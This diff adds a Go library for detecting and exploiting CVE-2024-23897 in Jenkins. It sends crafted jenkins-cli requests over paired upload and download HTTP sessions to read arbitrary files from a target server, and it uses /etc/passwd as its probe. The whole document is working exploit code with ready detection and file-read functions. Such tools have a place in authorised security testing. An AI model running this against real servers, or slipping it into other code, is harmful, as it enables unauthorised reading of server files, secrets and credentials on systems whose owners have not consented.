@@ -0,0 +1,177 @@
+// Package cve202423897 is a minimal library for detecting CVE-2024-23897 and reading files
+// through it. It only depends on the standard library and the protocol package, has no init
+// time side effects and never mutates global HTTP state.
+package cve202423897
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"fmt"
+	"github.com/wjlin0/CVE-2024-23897/pkg/protocol"
+	"io"
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+)
+
+// Options configures Detect and ReadFile
+type Options struct {
+	// HTTPClient sends the requests, http.DefaultClient is used when nil
+	HTTPClient *http.Client
+	// Headers are added to every request
+	Headers http.Header
+	// UploadDelay is waited before the upload side request is sent, defaults to one second
+	UploadDelay time.Duration
+}
+
+// DetectResult is the result of Detect
+type DetectResult struct {
+	URL        string
+	Vulnerable bool
+	// FullRead reports whether whole files can be read, not only their first line
+	FullRead bool
+	// Command is the jenkins-cli command that leaked /etc/passwd
+	Command string
+}
+
+// FileResult is the result of ReadFile
+type FileResult struct {
+	URL     string
+	Command string
+	Path    string
+	Content string
+}
+
+const (
+	permissionDenied = "anonymous is missing the Overall/Read permission"
+	passwdMarker     = "root:x:0:0:"
+)
+
+// Detect reports whether target is vulnerable by reading /etc/passwd
+func Detect(ctx context.Context, target string, opts *Options) (*DetectResult, error) {
+	result := &DetectResult{URL: strings.TrimSuffix(target, "/")}
+	for _, command := range []string{"reload-job", "connect-node", "who-am-i"} {
+		file, err := ReadFile(ctx, target, command, "/etc/passwd", opts)
+		if err != nil {
+			if ctx.Err() != nil {
+				return nil, ctx.Err()
+			}
+			continue
+		}
+		if strings.Contains(file.Content, permissionDenied) || !strings.Contains(file.Content, passwdMarker) {
+			continue
+		}
+		result.Vulnerable = true
+		result.FullRead = command != "who-am-i"
+		result.Command = command
+		break
+	}
+	return result, nil
+}
+
+// ReadFile reads path on target through command, e.g. reload-job for the whole file or who-am-i for its first line
+func ReadFile(ctx context.Context, target string, command string, path string, opts *Options) (*FileResult, error) {
+	var args []string
+	if command == "help" {
+		args = append(args, "1")
+	}
+	if !strings.HasPrefix(path, "@") {
+		path = "@" + path
+	}
+	args = append(args, path)
+
+	data, err := exchange(ctx, strings.TrimSuffix(target, "/"), protocol.EncodeRequest(command, args...), opts)
+	if err != nil {
+		return nil, err
+	}
+	return &FileResult{
+		URL:     strings.TrimSuffix(target, "/"),
+		Command: command,
+		Path:    strings.TrimPrefix(path, "@"),
+		Content: string(protocol.ExtractFile(command, data)),
+	}, nil
+}
+
+// exchange runs one full-duplex jenkins-cli session and returns the decoded output
+func exchange(ctx context.Context, target string, request []byte, opts *Options) ([]byte, error) {
+	if opts == nil {
+		opts = &Options{}
+	}
+	client := opts.HTTPClient
+	if client == nil {
+		client = http.DefaultClient
+	}
+	delay := opts.UploadDelay
+	if delay == 0 {
+		delay = time.Second
+	}
+	session, err := newSession()
+	if err != nil {
+		return nil, err
+	}
+	urlpath := fmt.Sprintf("%s/cli?remoting=false", target)
+
+	newRequest := func(side string, body io.Reader) (*http.Request, error) {
+		req, err := http.NewRequestWithContext(ctx, http.MethodPost, urlpath, body)
+		if err != nil {
+			return nil, err
+		}
+		for key, values := range opts.Headers {
+			for _, value := range values {
+				req.Header.Add(key, value)
+			}
+		}
+		req.Header.Set("Session", session)
+		req.Header.Set("Side", side)
+		return req, nil
+	}
+
+	var wg sync.WaitGroup
+	wg.Add(1)
+	go func() {
+		defer wg.Done()
+		// 确保 download 请求先于 upload 请求
+		select {
+		case <-time.After(delay):
+		case <-ctx.Done():
+			return
+		}
+		req, err := newRequest("upload", bytes.NewReader(request))
+		if err != nil {
+			return
+		}
+		if resp, err := client.Do(req); err == nil {
+			_, _ = io.Copy(io.Discard, resp.Body)
+			_ = resp.Body.Close()
+		}
+	}()
+	defer wg.Wait()
+
+	req, err := newRequest("download", nil)
+	if err != nil {
+		return nil, err
+	}
+	resp, err := client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+	body, err := io.ReadAll(resp.Body)
+	if err != nil {
+		return nil, err
+	}
+	return protocol.DecodeResponse(body)
+}
+
+// newSession returns a random uuid identifying the download and upload sides
+func newSession() (string, error) {
+	var b [16]byte
+	if _, err := rand.Read(b[:]); err != nil {
+		return "", err
+	}
+	b[6] = (b[6] & 0x0f) | 0x40
+	b[8] = (b[8] & 0x3f) | 0x80
+	return fmt.Sprintf("%x-%x-%x-%x-%x", b[0:4], b[4:6], b[6:8], b[8:10], b[10:]), nil
+}